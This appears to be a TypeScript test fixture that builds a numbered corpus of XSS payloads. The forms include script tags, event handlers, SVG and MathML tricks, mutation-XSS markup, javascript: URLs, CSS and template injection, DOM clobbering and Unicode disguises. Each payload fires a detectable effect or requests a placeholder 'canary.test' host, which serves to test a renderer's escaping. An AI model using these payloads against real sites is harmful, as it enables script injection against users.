/**
 * Texts that try to run as code wherever they are shown. Each contains its number, so that a hit identifies it.
 * `canary` is a URL that no page of ours or of a host may request.
 */
export const canary = 'canary.test'

/** Effects of a payload that can be detected: a function, the dialogs' owner, a global, the console, the network. */
const actions = [
	(at: number) => `__pwned(${at})`,
	(at: number) => `alert(${at})`,
	(at: number) => `pwned=${at}`,
	(at: number) => `console.log('pwned ${at}')`,
	(at: number) => `fetch('//${canary}/${at}')`,
	(at: number) => `top.__pwned?.(${at})`,
]

type Shape = (run: string, at: number) => string

const tags: Shape[] = [
	(run) => `<script>${run}</script>`,
	(run) => `<ScRiPt/x >${run}</sCrIpT >`,
	(run) => `"><script>${run}</script>`,
	(run) => `'><script>${run}</script>`,
	(run) => `</script><script>${run}</script>`,
	(run) => `</title><script>${run}</script>`,
	(run) => `</textarea><script>${run}</script>`,
	(run) => `</style><script>${run}</script>`,
	(run) => `--><script>${run}</script>`,
	(run) => `]]><script>${run}</script>`,
	(_, at) => `<script src=//${canary}/${at}></script>`,
	(_, at) => `<script type=module>import'//${canary}/${at}'</script>`,
	(run) => `<!--<script>${run}//--></script>`,
	(run) => `<script>${run}`,
	(run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
]

const handlers: Shape[] = [
	(run) => `<img src=x onerror=${run}>`,
	(run) => `"><img src=x onerror=${run}>`,
	(run) => `'"--></style></script><img src onerror=${run}>`,
	(run) => `<img src=x onerror="${run}"//`,
	(run) => `<img/src/onerror=${run}>`,
	(run) => `<details open ontoggle=${run}>`,
	(run) => `<video><source onerror=${run}></video>`,
	(run) => `<audio src onerror=${run}>`,
	(run) => `<body onload=${run} onpageshow=${run}>`,
	(run) => `<input autofocus onfocus=${run}>`,
	(run) => `<select autofocus onfocus=${run}>`,
	(run) => `<marquee onstart=${run}>`,
	(run) => `<frameset onload=${run}>`,
	(run) => `<x onclick=${run} onmouseover=${run}>hover</x>`,
	(run) => `<x contenteditable autofocus onfocus=${run}>`,
	(run) => `<style>@keyframes p{}</style><x style=animation-name:p onanimationstart=${run}>`,
	(run) => `<x oncontentvisibilityautostatechange=${run} style=content-visibility:auto>`,
	(run) => `" onmouseover="${run}" x="`,
	(run) => `' autofocus tabindex=1 onfocus='${run}' x='`,
	(run) => `\` onmouseover=${run} \``,
]

const foreign: Shape[] = [
	(run) => `<svg onload=${run}>`,
	(run) => `<svg/onload=${run}//`,
	(run) => `<svg><script>${run}</script></svg>`,
	(run) => `<svg><script href="data:,${run}"/></svg>`,
	(run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
	(run) => `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
	(run) => `<svg><foreignObject><iframe onload=${run}></foreignObject></svg>`,
	(run) => `<svg><set attributeName=href to=javascript:${run}>`,
	(run) => `<math href="javascript:${run}">x</math>`,
	(run) => `<math><annotation-xml encoding="text/html"><img src onerror=${run}>`,
	(_, at) => `<svg><image href=//${canary}/${at}></svg>`,
	(_, at) => `<svg><use href="//${canary}/${at}#x"></svg>`,
]

/** Markup that parsers change on a second parse (mutation XSS). */
const mutations: Shape[] = [
	(run) => `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
	(run) => `<svg><style><img src=x onerror=${run}></style>`,
	(run) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=${run}&gt;">`,
	(run) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
	(run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
	(run) => `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
	(run) => `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
	(run) => `<select><template><style><!--</style><a rel="--></style></template><img src onerror=${run}>">`,
	(run) => `<table><td><p title="</table><img src onerror=${run}>">`,
	(run) => `<p id="</p><img src=x onerror=${run}>">`,
	(run) => `</template><img src onerror=${run}>`,
	(run) => `<template shadowrootmode=open><img src onerror=${run}></template>`,
	(run) => `</plaudit-wall></section></template><img src onerror=${run}>`,
	(run) => `<plaudit-wall wall="x"><script>${run}</script></plaudit-wall>`,
	(run) => `<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml" onload="${run}"/>`,
	(run) => `<![CDATA[<img src onerror=${run}>]]>`,
	(run) => `<!DOCTYPE x [<!ENTITY y "${run}">]>&y;`,
]

const addresses: Shape[] = [
	(run) => `javascript:${run}`,
	(run) => `JaVaScRiPt:${run}`,
	(run) => `java&Tab;script&colon;${run}`,
	(run) => `&#106;avascript:${run}`,
	(run) => `javascript://%0a${run}`,
	(run) => `javascript://https://a.test/%0a${run}`,
	(run) => `data:text/html,<script>${run}</script>`,
	(run) => `vbscript:${run}`,
	(run) => `<a href=javascript:${run}>click</a>`,
	(run) => `<iframe src="javascript:parent.${run}">`,
	(run) => `<iframe srcdoc="<script>parent.${run}</script>">`,
	(run) => `<object data="javascript:${run}">`,
	(run) => `<embed src="javascript:${run}">`,
	(run) => `<form action=javascript:${run}><button>x</button></form>`,
	(run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
	(_, at) => `<meta http-equiv=refresh content="0;url=//${canary}/${at}">`,
	() => `<base href="//${canary}/">`,
	(_, at) => `<link rel=stylesheet href=//${canary}/${at}>`,
	(_, at) => `<link rel=preload as=image href=//${canary}/${at}>`,
	(run) => `[x](javascript:${run})`,
	(_, at) => `![x](//${canary}/${at})`,
]

const styles: Shape[] = [
	(_, at) => `<style>@import'//${canary}/${at}'</style>`,
	(_, at) => `<style>*{background:url(//${canary}/${at})}</style>`,
	(_, at) => `#fff}*{background:url(//${canary}/${at})}`,
	(_, at) => `" style="background:url(//${canary}/${at})" x="`,
	(run) => `red;}</style><script>${run}</script>`,
	(_, at) => `red;background:url(//${canary}/${at})`,
	(_, at) => `\\3c/style\\3e\\27;}@import "//${canary}/${at}";`,
]

const templates: Shape[] = [
	(run) => `{{constructor.constructor('${run.replaceAll("'", '"')}')()}}`,
	(run) => `\${${run}}`,
	(run) => `#{${run}} <%= ${run} %>`,
	(run) => `{space} {name} {{name}} $& $' $\` $1 ${run}`,
	(run) => `';${run}//`,
	(run) => `");${run}//`,
	(run) => `\\");${run}//`,
	(run) => `"}]}</script><script>${run}</script>`,
	(run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
	(run) => `\u2028${run}\u2029`,
	(run) => `"\u2028;${run};\u2029"`,
	(run) => `=HYPERLINK("javascript:${run}")`,
]

const clobbers: Shape[] = [
	(_, at) => `<a id=location href=//${canary}/${at}></a>`,
	() => '<form id=document name=body><input name=cookie><input name=head></form>',
	(_, at) => `<img name=currentScript src=//${canary}/${at}>`,
	() => '<form name=customElements><input name=get></form>',
	(_, at) => `<a id=data></a><script id=data type=application/json>{"at":${at}}</script>`,
	(_, at) => `<a id=plaudit-config href=//${canary}/${at}></a><i id=island></i>`,
	() => '<iframe name=fetch></iframe><a id=__proto__></a>',
	(_, at) => `<meta name=live content=//${canary}/${at}>`,
]

const disguises: Shape[] = [
	(run) => `\u202e<script>${run}</script>\u202c`,
	(run) => `\u2066<img src onerror=${run}>\u2069`,
	(run) => `<scr\u200bipt>${run}</scr\u200bipt>`,
	(run) => `\ufeff<img src onerror=${run}>`,
	(run) => `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
	(run) => `<\u017fcript>${run}</\u017fcript>`,
	(run) => `&lt;script&gt;${run}&lt;/script&gt;`,
	(run) => `&amp;lt;img src onerror=${run}&amp;gt;`,
	(run) => `&#x3c;img src onerror=${run}&#x3e;`,
	(run) => `&quot; onmouseover=${run} x=&quot;`,
	(run) => `%3Cscript%3E${run}%3C/script%3E`,
	(run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
	(run) => `<a\u0338<script>${run}</script>`,
	(run) => `e\u0301<img src onerror=${run}>\u{1f469}\u200d\u{1f467}`,
]

const shapes = [
	...tags,
	...handlers,
	...foreign,
	...mutations,
	...addresses,
	...styles,
	...templates,
	...clobbers,
	...disguises,
]

/** Every payload once, each with one of the detectable effects. */
export const payloads: string[] = shapes.map((shape, at) => {
	const action = actions[at % actions.length] ?? actions[0]
	return shape(action?.(at) ?? '', at)
})

/** Characters that single-line fields refuse: unprintable ones. */
export const unprintable = ['\u0000', 'a\u0001b', 'a\nb', 'a\rb', 'a\u001bb', 'a\u007fb', 'a\u0085b']
